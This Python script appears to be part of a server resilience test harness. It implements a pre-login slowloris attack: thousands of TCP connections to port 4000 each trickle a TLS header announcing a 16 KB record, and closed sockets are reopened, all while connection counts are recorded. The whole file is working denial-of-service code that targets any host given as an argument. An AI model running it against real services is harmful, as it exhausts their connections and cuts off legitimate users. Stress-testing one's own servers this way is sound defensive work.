"""Pre-login slowloris: up to COUNT TCP connections to HOST:4000, each sending one byte a second of a TLS record
that announces 16 KB (so the server's TLS waits for it forever), reopened when the server closes them.
Usage: slowloris.py SECONDS HOST COUNT. Counts: opened, established_peak (connections that took a byte),
closed_by_server, connect_failed, open_at_end."""
import errno
import resource
import socket
import time

from common import Run, args

seconds, host, count = args("SECONDS HOST COUNT", "seconds", "host", "count")
run = Run(float(seconds))
count = int(count)
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
want = count + 64
if soft < want:
    resource.setrlimit(resource.RLIMIT_NOFILE, (want, max(hard, want)))

# a TLS handshake record of 0x4000 bytes, a ClientHello, then filler
PREFIX = bytes([0x16, 0x03, 0x01, 0x40, 0x00, 0x01])
MAX_OPENS = 5 * count  # reopen what the server closes, but not without end
socks = {}  # socket -> [bytes sent, established]
opens = 0


def open_one():
    global opens
    opens += 1
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    err = s.connect_ex((host, 4000))
    if err not in (0, errno.EINPROGRESS):
        run.add("connect_failed")
        s.close()
        return
    run.add("opened")
    socks[s] = [0, False]


def drop(s, state):
    run.add("closed_by_server" if state[1] else "connect_failed")
    del socks[s]
    s.close()


next_tick = time.monotonic()
while not run.stop():
    # open in bursts of 500 every 50 ms, so that 10,000 are under way within about a second
    burst = 0
    while len(socks) < count and opens < MAX_OPENS and burst < 500:
        try:
            open_one()
        except OSError:
            run.add("connect_failed")
        burst += 1
    now = time.monotonic()
    if now >= next_tick:
        next_tick = now + 1.0
        established = 0
        for s, state in list(socks.items()):
            try:
                if state[1]:
                    data = s.recv(4096)  # the server's alert, or b"" when it closed
                    if data == b"":
                        drop(s, state)
                        continue
            except BlockingIOError:
                pass
            except OSError:
                drop(s, state)
                continue
            byte = PREFIX[state[0]:state[0] + 1] or b"A"
            try:
                s.send(byte)
                state[0] += 1
                state[1] = True
                established += 1
            except BlockingIOError:
                pass  # still connecting, or its window is full
            except OSError:
                drop(s, state)
        run.peak("established_peak", established)
    time.sleep(0.05)
run.counts["open_at_end"] = len(socks)
run.report()
for s in socks:
    s.close()
